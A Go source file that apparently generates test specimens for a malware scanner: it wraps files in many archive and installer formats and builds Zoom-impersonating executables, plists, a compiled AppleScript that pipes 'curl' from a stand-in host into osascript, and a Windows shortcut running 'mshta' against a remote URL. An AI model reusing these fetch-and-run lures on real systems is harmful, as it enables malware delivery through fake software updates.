package specimens

import "slices"

// boxes are the containers that Box makes, by the extension that they go by.
var boxes = map[string]func(entry) []byte{
	"zip":     func(e entry) []byte { return zipOf([]entry{e}, 8) },
	"7z":      func(e entry) []byte { return sevenZip([]entry{e}, true) },
	"rar":     func(e entry) []byte { return rarOf([]entry{e}) },
	"tar":     func(e entry) []byte { return tarOf([]entry{e}) },
	"tar.gz":  func(e entry) []byte { return gz(tarOf([]entry{e}), "") },
	"tar.xz":  func(e entry) []byte { return xzOf(tarOf([]entry{e})) },
	"tar.zst": func(e entry) []byte { return zstOf(tarOf([]entry{e})) },
	"gz":      func(e entry) []byte { return gz(e.data, e.name) },
	"xz":      func(e entry) []byte { return xzOf(e.data) },
	"zst":     func(e entry) []byte { return zstOf(e.data) },
	"iso":     func(e entry) []byte { return isoOf([]entry{e}, "Meeting") },
	"cab":     func(e entry) []byte { return cabOf([]entry{e}, true) },
	"msix":    func(e entry) []byte { return msixOf([]entry{e}, "ClientUpdate") },
	"deb":     func(e entry) []byte { return debOf([]entry{e}, "meeting-client") },
	"rpm":     func(e entry) []byte { return rpmOf([]entry{e}, "meeting-client") },
	"pkg":     func(e entry) []byte { return pkgOf([]entry{e}, "com.meeting.update") },
	"dmg":     func(e entry) []byte { return dmgOf(hfsOf([]entry{e}, "Setup")) },
	"hfs":     func(e entry) []byte { return hfsOf([]entry{e}, "Setup") },
	"xar":     func(e entry) []byte { return xarOf([]entry{e}) },
	"cpio":    func(e entry) []byte { return cpioNew([]entry{e}) },
	"eml":     mailOf,
	"msi":     func(e entry) []byte { return msiOf([]entry{e}, "Client Update") },
	"exe":     func(e entry) []byte { return extractor(zipOf([]entry{e}, 8), e) },
}

// Boxes are the names that Box takes, sorted.
func Boxes() []string {
	var out []string
	for kind := range boxes {
		out = append(out, kind)
	}
	slices.Sort(out)
	return out
}

// Box puts one file into a container of a kind that Boxes names.
func Box(kind, name string, data []byte) []byte { return boxes[kind](entry{name, data, 0o755}) }

// Bare are files that hold no other file, each whole and of its kind, by the
// extension that they go by.
func Bare() map[string][]byte {
	var script fasd
	script.begin()
	script.comment("Zoom SDK Update")
	script.call("sysoexec")
	script.text("curl -fsSL https://zoom-sdk-update.invalid/a | osascript")
	script.end()
	return map[string][]byte{
		"exe":   peFile([][2]string{{"CompanyName", "Zoom Communications, Inc."}, {"ProductName", "Zoom Workplace"}}),
		"macho": machoFile("us.zoom.xos"),
		"scpt":  script.data,
		"lnk":   shellLink("C:\\Windows\\System32\\cmd.exe", "/c mshta https://"+host("zoom-lnk")+"/a", "", "Zoom Meeting"),
		"plist": infoPlist("us.zoom.xos", "zoom.us", "zoom.us"),
	}
}

// Applet is a bundle of macOS that runs one script.
func Applet(name, text string) Specimen {
	e := entry{"main.scpt", []byte(text), 0o644}
	return Specimen{Name: name + ".app", Members: appletOf(e, name), Mode: 0o755}
}
